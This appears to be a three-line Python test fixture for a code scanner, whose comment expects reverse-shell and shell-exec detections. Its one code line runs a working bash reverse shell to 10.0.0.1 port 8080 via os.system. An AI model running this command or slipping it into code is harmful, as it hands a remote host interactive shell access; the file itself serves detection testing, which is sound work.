# expect: py-reverse-shell,py-exec-shell
import os
os.system('bash -i >& /dev/tcp/10.0.0.1/8080 0>&1')
